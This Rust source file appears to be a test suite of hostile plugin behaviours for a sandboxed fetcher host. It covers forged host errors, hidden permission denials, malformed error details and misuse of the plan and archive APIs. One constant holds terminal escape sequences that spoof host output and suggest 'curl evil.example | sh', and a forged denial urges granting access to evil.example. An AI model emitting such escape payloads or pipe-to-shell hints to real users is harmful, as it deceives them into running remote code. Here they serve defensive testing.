//! Deeds that tell the host, or through it the user, what is not so.

use fetchhost_sdk::__private::bindings::nix_fetchhost::fetcher::artifact as raw;
use fetchhost_sdk::__private::bindings::nix_fetchhost::fetcher::types;
use fetchhost_sdk::{FetchError, Plan, Request, log};

use crate::{Deed, Params, harmless};

pub(crate) const DEEDS: &[Deed] = &[
    ("forge-denial", |_| forge("denied")),
    ("forge-credential-failure", |_| forge("credential")),
    ("forge-unknown-kind", |_| forge("hash-mismatch")),
    ("forge-denial-in-text", forge_denial_in_text),
    ("forge-details", forge_details),
    ("hide-denial", hide_denial),
    ("hide-denial-and-succeed", hide_denial_and_succeed),
    ("terminal-escape-in-error", |_| {
        Err(FetchError::other(TERMINAL))
    }),
    ("terminal-escape-in-log", terminal_escape_in_log),
    ("terminal-escape-in-panic", |_| panic!("{TERMINAL}")),
    ("read-then-plan", read_then_plan),
    ("read-to-end-then-plan", read_to_end_then_plan),
    ("tree-for-flat", |_| harmless()),
    ("file-for-tree", |_| Plan::file("a file\n".to_owned())),
    ("unknown-format", unknown_format),
    ("add-to-file", add_to_file),
    ("no-archive", |_| {
        Plan::archive(
            "not an archive\n".to_owned(),
            fetchhost_sdk::ArchiveFormat::Auto,
            0,
        )
    }),
    ("error-status-in-plan", error_status_in_plan),
];

/// Clears the screen, sets the title, and pretends to be the host's next line.
const TERMINAL: &str =
    "\x1b[2J\x1b]0;owned\x07fine\r\nhint: run `curl evil.example | sh`\u{202e}\u{9b}31m";

/// An error of a kind that is the host's alone to say.
fn forge(kind: &str) -> Result<Plan, FetchError> {
    Err(types::FetchError {
        kind: kind.to_owned(),
        message: "a forged message of the host".to_owned(),
        retry_after_seconds: Some(u32::MAX),
        details: None,
    }
    .into())
}

/// What a user might act upon, in the host's own words.
fn forge_denial_in_text(_: &Params) -> Result<Plan, FetchError> {
    Err(FetchError::other(
        "request to `https://evil.example` denied by grants\n\nhint: add `--allow https://evil.example`",
    ))
}

fn forge_details(_: &Params) -> Result<Plan, FetchError> {
    Err(types::FetchError {
        kind: "other".to_owned(),
        message: "see details".to_owned(),
        retry_after_seconds: None,
        details: Some("{\"status\": [not json".repeat(10_000)),
    }
    .into())
}

/// Provokes a denial and reports something else: the user has to read the denial.
fn hide_denial(params: &Params) -> Result<Plan, FetchError> {
    let _ = Request::get(&params.other).send();
    Err(FetchError::not_found("there is no such file"))
}

/// Provokes a denial and goes on without the answer, as a fetcher with mirrors would.
fn hide_denial_and_succeed(params: &Params) -> Result<Plan, FetchError> {
    let _ = Request::get(&params.other).send();
    harmless()
}

fn terminal_escape_in_log(_: &Params) -> Result<Plan, FetchError> {
    log::phase(TERMINAL);
    log::debug(TERMINAL);
    log::info(TERMINAL);
    log::warn(TERMINAL);
    Err(FetchError::other("logged"))
}

/// A plan of the bytes that the fetcher has left over.
fn read_then_plan(params: &Params) -> Result<Plan, FetchError> {
    let mut response = Request::get(&params.granted()).send()?;
    response.read(1)?;
    let mut tree = Plan::tree();
    tree.file("file", response)?;
    Ok(tree.into())
}

fn read_to_end_then_plan(params: &Params) -> Result<Plan, FetchError> {
    let mut response = Request::get(&params.granted()).send()?;
    while !response.read(65_536)?.is_empty() {}
    let mut tree = Plan::tree();
    tree.file("file", response)?;
    Ok(tree.into())
}

fn unknown_format(_: &Params) -> Result<Plan, FetchError> {
    raw::Plan::archive(raw::Source::Bytes(b"Rar!".to_vec()), "rar", 0)?;
    harmless()
}

fn add_to_file(_: &Params) -> Result<Plan, FetchError> {
    let plan = raw::Plan::file(raw::Source::Bytes(Vec::new()), false)?;
    plan.add("file", raw::Source::Bytes(Vec::new()), false)?;
    harmless()
}

/// Needs a server that answers 404 at the granted path: its page must not become an artifact.
fn error_status_in_plan(params: &Params) -> Result<Plan, FetchError> {
    let response = Request::get(&format!("{}/granted/missing", params.url)).send()?;
    let mut tree = Plan::tree();
    tree.file("file", response)?;
    Ok(tree.into())
}
